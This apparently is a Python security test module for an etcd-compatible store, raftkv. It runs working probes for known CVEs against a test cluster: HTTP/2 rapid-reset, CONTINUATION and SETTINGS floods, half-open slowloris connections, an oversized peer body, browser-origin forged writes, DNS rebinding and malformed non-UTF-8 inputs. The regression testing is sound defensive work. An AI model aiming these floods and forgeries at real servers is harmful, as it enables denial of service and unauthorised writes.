"""Attacks that need no users: browsers, floods, half-open connections, and requests that ask for too much."""

from __future__ import annotations

import contextlib
import itertools
import json
import socket
import time

from raftkv.pb import rpc_pb2
from tests.rpc import raw
from tests.security.attack import FALLS, RESISTS, Attack, Stage, connect, say

PUT, RANGE = "etcdserverpb.KV/Put", "etcdserverpb.KV/Range"
STRANGER = "https://evil.example"
FLOOD_FRAMES = 20_000
FLOOD_BODY_BYTES = 48 << 20
BODY_TAKEN_MAX_BYTES = 24 << 20
"""What the kernel's buffers may take of a body that the server does not read."""

HALF_OPEN_S = 13.0
"""Until then a server must have given up a connection that says nothing; raftkv's limits are 10 s."""


def _http(stage: Stage, head: str, body: bytes = b"") -> tuple[int, bytes]:
    text = f"{head}\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    answer = say(stage.endpoint, text.encode() + body, silence_s=60)
    status = answer.split(b" ", 2)[1] if answer.startswith(b"HTTP/1.1 ") else b"0"
    return int(status), answer


def _exists(stage: Stage, key: bytes) -> bool:
    answer = stage.call(RANGE, rpc_pb2.RangeRequest(key=key), "root" if stage.tokens else "")
    return answer.message is not None and answer.message.count > 0


def forged_request(stage: Stage) -> bool:
    """A form of a page in a browser posts JSON as plain text: no question is asked before such a request."""
    body = json.dumps({"key": "Zm9yZ2Vk", "value": "eA=="}).encode()
    for path in ("/v3/kv/put", "/v3beta/kv/put"):
        head = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nOrigin: {STRANGER}\r\nContent-Type: text/plain"
        _http(stage, head, body)
    return _exists(stage, b"forged")


def rebinding(stage: Stage) -> bool:
    """A page whose name points at this machine reads what answers there."""
    status, _ = _http(stage, "GET /version HTTP/1.1\r\nHost: evil.example")
    return status == 200


def readable_by_pages(stage: Stage) -> bool:
    """A page asks, and the answer says that it may read it."""
    _, answer = _http(stage, f"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nOrigin: {STRANGER}")
    return b"access-control-allow-origin" in answer.lower()


def origin_over_grpc(stage: Stage) -> bool:
    """A call of a browser: it has an Origin, which no program sends."""
    metadata = (("origin", STRANGER),)
    stage.wire.call(PUT, rpc_pb2.PutRequest(key=b"by-a-page"), metadata=metadata)
    return _exists(stage, b"by-a-page")


def _greeting() -> bytes:
    return raw.PREFACE + raw.settings()


def _ends_the_connection(stage: Stage, pieces: list[bytes]) -> bool:
    """Whether the server ends a connection while, or soon after, this is said."""
    with connect(stage.endpoint) as sock:
        sock.settimeout(5.0)
        try:
            for piece in pieces:
                sock.sendall(piece)
                sock.settimeout(0.001)
                with contextlib.suppress(TimeoutError):
                    if not sock.recv(1 << 20):
                        return True
                sock.settimeout(5.0)
            sock.settimeout(2.0)
            while sock.recv(1 << 20):
                pass
        except TimeoutError:
            return False
        except ConnectionError:
            return True
    return True


def rapid_reset(stage: Stage) -> bool:
    """Calls that are begun and reset at once, thousands on one connection: it must end, and others notice nothing."""
    fields = raw.grpc_headers(f"/{RANGE}")
    numbers = range(1, 2 * FLOOD_FRAMES, 2)
    chunks = itertools.zip_longest(*[iter(numbers)] * 1000)
    pieces = [b"".join(raw.headers(one, fields) + raw.reset(one) for one in chunk if one) for chunk in chunks]
    ended = _ends_the_connection(stage, [_greeting(), *pieces])
    return not ended or stage.call(PUT, rpc_pb2.PutRequest(key=b"k"), "root" if stage.tokens else "").code != "OK"


def continuation_flood(stage: Stage) -> bool:
    """A header that never ends, in frames without content."""
    start = raw.headers(1, raw.grpc_headers(f"/{RANGE}"), flags=0)
    flood = raw.frame(raw.CONTINUATION, 0, 1, b"") * 1000
    return not _ends_the_connection(stage, [_greeting() + start, *[flood] * (FLOOD_FRAMES // 1000)])


def settings_flood(stage: Stage) -> bool:
    """Settings, each of which must be acknowledged, to a server whose answers are not read."""
    return not _ends_the_connection(stage, [_greeting(), *[raw.settings() * 1000] * (FLOOD_FRAMES // 1000)])


def endless_body(stage: Stage) -> bool:
    """A request to the peer port whose body is larger than any request of a member: how much of it is taken."""
    head = f"POST /leases HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {FLOOD_BODY_BYTES}\r\n\r\n".encode()
    sent = 0
    with connect(stage.peer_endpoint) as sock:
        sock.settimeout(3.0)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 16)
        with contextlib.suppress(TimeoutError, ConnectionError):
            sock.sendall(head)
            while sent < FLOOD_BODY_BYTES:
                sent += sock.send(bytes(1 << 16))
    return sent > BODY_TAKEN_MAX_BYTES


def half_open(stage: Stage) -> bool:
    """Half a header of HTTP/1.1, half a preface of HTTP/2, half a TLS handshake, and nothing at all, each for ever."""
    header = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: "
    openings = [(stage.endpoint, header), (stage.endpoint, raw.PREFACE[:10]), (stage.endpoint, b"")]
    openings += [(stage.tls_endpoint, b"\x16\x03\x01\x02"), (stage.tls_endpoint, b"")]
    end_s = time.monotonic() + HALF_OPEN_S
    with contextlib.ExitStack() as stack:
        socks = []
        for endpoint, opening in openings:
            socks.append(stack.enter_context(connect(endpoint)))
            socks[-1].sendall(opening)
        return any(_is_open_at(sock, end_s) for sock in socks)


def _is_open_at(sock: socket.socket, end_s: float) -> bool:
    try:
        while True:
            sock.settimeout(max(0.01, end_s - time.monotonic()))
            if not sock.recv(65_536):
                return False
    except TimeoutError:
        return True
    except ConnectionError:
        return False


def promotion_by_update(stage: Stage) -> bool:
    """A learner whose URLs are changed must stay one: it has no vote."""
    user = "root" if stage.tokens else ""
    url = "http://127.0.0.1:{}"
    added = stage.call(
        "etcdserverpb.Cluster/MemberAdd", rpc_pb2.MemberAddRequest(peerURLs=[url.format(9)], isLearner=True), user
    )
    assert added.code == "OK", added
    learner = added.message.member.ID
    try:
        update = rpc_pb2.MemberUpdateRequest(ID=learner, peerURLs=[url.format(11)])
        stage.call("etcdserverpb.Cluster/MemberUpdate", update, user)
        listed = stage.call("etcdserverpb.Cluster/MemberList", rpc_pb2.MemberListRequest(linearizable=True), user)
        (found,) = [member for member in listed.message.members if learner == member.ID]
        return not found.isLearner
    finally:
        stage.call("etcdserverpb.Cluster/MemberRemove", rpc_pb2.MemberRemoveRequest(ID=learner), user)


def version_that_is_no_text(stage: Stage) -> bool:
    """The client's version becomes a label of a metric; bytes that are no text must not break the metrics, or more."""
    head = raw.grpc_headers(f"/{RANGE}", (b"client-api-version", b"\xff\xfe\x80"))
    request = rpc_pb2.RangeRequest(key=b"k").SerializeToString()
    framed = b"\0" + len(request).to_bytes(4, "big") + request
    say(stage.endpoint, _greeting() + raw.headers(1, head) + raw.message(1, framed, raw.END_STREAM))
    return not _tells_metrics(stage)


def _tells_metrics(stage: Stage) -> bool:
    try:
        return _http(stage, "GET /metrics HTTP/1.1\r\nHost: 127.0.0.1")[0] == 200
    except ConnectionError:
        return False


def names_that_are_no_text(stage: Stage) -> bool:
    """Texts of requests that are not UTF-8: what is no message must not become a user, or stop a member."""
    for method, payload in (
        ("etcdserverpb.Auth/UserAdd", b"\x0a\x02\xff\xfe\x12\x01x"),
        ("etcdserverpb.Auth/RoleAdd", b"\x0a\x02\xff\xfe"),
        ("etcdserverpb.Auth/Authenticate", b"\x0a\x02\xff\xfe\x12\x02\xff\xfe"),
        ("etcdserverpb.Cluster/MemberAdd", b"\x0a\x02\xff\xfe"),
    ):
        answer = stage.wire.call(method, payload)
        if answer.code == "OK":
            return True
    return not _tells_metrics(stage)


def readable_files(stage: Stage) -> bool:
    """A user with an account on the machine looks into the data directory."""
    directory = stage.cluster.members[0].data_dir
    return any(path.stat().st_mode & 0o077 for path in (directory, *directory.rglob("*")))


ATTACKS = (
    Attack("CVE-2018-1098", "a page in a browser posts a put as plain text", forged_request, FALLS),
    Attack("CVE-2018-1099", "a page reads under a name that points here", rebinding, FALLS),
    Attack("CVE-2018-1098 (CORS)", "any page may read the answers", readable_by_pages, FALLS),
    Attack("CVE-2018-1098 (gRPC)", "a call with a browser's Origin", origin_over_grpc, FALLS),
    Attack("CVE-2023-44487", "streams begun and reset at once", rapid_reset, FALLS),
    Attack("CVE-2024-27316", "a header without end", continuation_flood, FALLS),
    Attack("CVE-2019-9515", "settings without end, answers unread", settings_flood, FALLS),
    Attack("etcd 2026-07 (peer body)", "48 MiB to a path of the peer port", endless_body, FALLS),
    Attack("GHSA-6vch-q96h-7gc3", "half a handshake of TLS, half a header, and silence", half_open, FALLS, slow=True),
    Attack("etcd 3.4.29 (learner)", "MemberUpdate of a learner", promotion_by_update, FALLS),
    Attack("Ada 2022-3 (names)", "names of users, roles and members that are no text", names_that_are_no_text, FALLS),
    Attack("CVE-2020-15113 (files)", "files of a member that others may read", readable_files, RESISTS),
    # The last one: it ends etcd's process.
    Attack("Ada 2022-8 (labels)", "a version of the client that is no text", version_that_is_no_text, FALLS),
)
